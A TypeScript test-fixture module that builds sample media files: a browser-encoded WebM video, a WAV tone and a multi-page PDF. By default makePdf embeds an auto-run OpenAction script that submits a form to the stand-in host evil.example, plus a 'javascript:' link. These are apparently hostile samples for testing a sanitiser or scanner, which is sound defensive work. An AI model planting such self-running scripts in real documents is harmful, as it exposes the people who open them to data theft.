import type { Browser } from 'playwright-core';

/** A video of so many seconds, made by the browser's own encoder: a bar that moves over a changing colour. */
export async function makeVideo(
  browser: Browser,
  video: { readonly seconds: number; readonly width: number; readonly height: number; readonly page: string },
): Promise<Uint8Array> {
  const page = await browser.newPage();
  try {
    // Encoders are given to secure contexts only.
    await page.goto(video.page);
    const frames: readonly string[] = await page.evaluate(`(${encode.toString()})(${JSON.stringify(video)})`);
    return webm(
      video,
      frames.map((frame) => Buffer.from(frame, 'base64')),
    );
  } finally {
    await page.close();
  }
}

const framesPerSecond = 10;

/** Runs in the page. Every second begins with a key frame. */
async function encode(video: { seconds: number; width: number; height: number }): Promise<string[]> {
  // biome-ignore lint/suspicious/noExplicitAny: the page's own names, of which Node knows nothing
  const { OffscreenCanvas, VideoEncoder, VideoFrame, btoa } = globalThis as any;
  const frames: string[] = [];
  const encoder = new VideoEncoder({
    output: (chunk: { byteLength: number; copyTo(bytes: Uint8Array): void }) => {
      const bytes = new Uint8Array(chunk.byteLength);
      chunk.copyTo(bytes);
      frames.push(btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join('')));
    },
    error: (error: Error) => {
      throw error;
    },
  });
  encoder.configure({ codec: 'vp8', width: video.width, height: video.height, bitrate: 100_000 });
  const canvas = new OffscreenCanvas(video.width, video.height);
  const context = canvas.getContext('2d');
  for (let index = 0; index < video.seconds * 10; index += 1) {
    context.fillStyle = `hsl(${index * 4} 60% 40%)`;
    context.fillRect(0, 0, video.width, video.height);
    context.fillStyle = 'white';
    context.fillRect((index * 3) % video.width, 0, 8, video.height);
    const frame = new VideoFrame(canvas, { timestamp: index * 100_000 });
    encoder.encode(frame, { keyFrame: index % 10 === 0 });
    frame.close();
  }
  await encoder.flush();
  return frames;
}

/** WebM with one cluster a second and cues, so that one can seek in it. */
function webm(
  { seconds, width, height }: { readonly seconds: number; readonly width: number; readonly height: number },
  frames: readonly Uint8Array[],
): Uint8Array {
  const header = node(0x1a45dfa3, [
    node(0x4286, number(1)),
    node(0x42f7, number(1)),
    node(0x42f2, number(4)),
    node(0x42f3, number(8)),
    node(0x4282, Buffer.from('webm')),
    node(0x4287, number(2)),
    node(0x4285, number(2)),
  ]);
  const duration = Buffer.alloc(8);
  duration.writeDoubleBE(seconds * 1000);
  const info = node(0x1549a966, [
    node(0x2ad7b1, number(1_000_000)),
    node(0x4489, duration),
    node(0x4d80, Buffer.from('sinau')),
    node(0x5741, Buffer.from('sinau')),
  ]);
  const picture = node(0xe0, [node(0xb0, number(width)), node(0xba, number(height))]);
  const track = node(0xae, [
    node(0xd7, number(1)),
    node(0x73c5, number(1)),
    node(0x83, number(1)),
    node(0x86, Buffer.from('V_VP8')),
    picture,
  ]);
  const tracks = node(0x1654ae6b, [track]);
  const clusters = Array.from({ length: seconds }, (_, second) =>
    node(0x1f43b675, [
      node(0xe7, number(second * 1000)),
      ...frames
        .slice(second * framesPerSecond, (second + 1) * framesPerSecond)
        .map((frame, index) => node(0xa3, block(index, frame))),
    ]),
  );
  // Cues stand before the clusters and name their places, so their own size must not depend on these.
  const cuesOf = (start: number) => {
    let at = start;
    const points = clusters.map((cluster, second) => {
      const place = node(0xb7, [node(0xf7, number(1)), node(0xf1, number(at, 4))]);
      at += cluster.length;
      return node(0xbb, [node(0xb3, number(second * 1000, 4)), place]);
    });
    return node(0x1c53bb6b, points);
  };
  const before = info.length + tracks.length;
  const cues = cuesOf(before + cuesOf(0).length);
  return Buffer.concat([header, node(0x18538067, [info, tracks, cues, ...clusters])]);
}

function block(index: number, frame: Uint8Array): Buffer {
  const head = Buffer.from([0x81, 0, 0, index === 0 ? 0x80 : 0]);
  head.writeInt16BE(index * (1000 / framesPerSecond), 1);
  return Buffer.concat([head, frame]);
}

/** An element: id, size in eight bytes, content. */
function node(id: number, content: Uint8Array | readonly Uint8Array[]): Buffer {
  const body = content instanceof Uint8Array ? content : Buffer.concat(content);
  const name = Buffer.from(id.toString(16), 'hex');
  const size = Buffer.alloc(8);
  size.writeBigUInt64BE(BigInt(body.length) | (1n << 56n));
  return Buffer.concat([name, size, body]);
}

function number(value: number, bytes = value < 256 ? 1 : 4): Buffer {
  const buffer = Buffer.alloc(bytes);
  buffer.writeUIntBE(value, 0, bytes);
  return buffer;
}

/** So many seconds of a quiet tone. */
export function makeSound(seconds: number): Uint8Array {
  const rate = 8000;
  const samples = Buffer.alloc(seconds * rate);
  for (let index = 0; index < samples.length; index += 1) {
    samples[index] = 128 + Math.round(20 * Math.sin((index * 2 * Math.PI * 440) / rate));
  }
  const head = Buffer.alloc(44);
  head.write('RIFF', 0);
  head.writeUInt32LE(36 + samples.length, 4);
  head.write('WAVEfmt ', 8);
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(rate, 24);
  head.writeUInt32LE(rate, 28);
  head.writeUInt16LE(1, 32);
  head.writeUInt16LE(8, 34);
  head.write('data', 36);
  head.writeUInt32LE(samples.length, 40);
  return Buffer.concat([head, samples]);
}

/**
 * A document of so many pages, each with a line of text and a link to the web. Unless it is harmless, the link of the first page is a
 * script, and another script would run on opening.
 */
export function makePdf(pages: number, { harmless = false } = {}): Uint8Array {
  const objects: string[] = [];
  const add = (body: string) => objects.push(body);
  const kids = Array.from({ length: pages }, (_, index) => `${5 + index * 2} 0 R`).join(' ');
  add(`<< /Type /Catalog /Pages 2 0 R /Lang (id) ${harmless ? '' : '/OpenAction 4 0 R '}>>`);
  add(`<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`);
  add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  if (harmless) add('<< >>');
  else add('<< /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://evil.example/"\\)) >>');
  for (let page = 1; page <= pages; page += 1) {
    const uri = page === 1 && !harmless ? 'javascript:alert(1)' : 'https://contoh.go.id/panduan';
    const link = `<< /Type /Annot /Subtype /Link /Rect [60 600 260 640] /Border [0 0 0] /A << /S /URI /URI (${uri}) >> >>`;
    add(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents ${4 + page * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [${link}] >>`,
    );
    const text = `BT /F1 24 Tf 60 500 Td (Halaman ke-${page} dari laporan) Tj ET`;
    add(`<< /Length ${text.length} >>\nstream\n${text}\nendstream`);
  }
  let file = '%PDF-1.7\n';
  const offsets = objects.map((body, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const start = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}
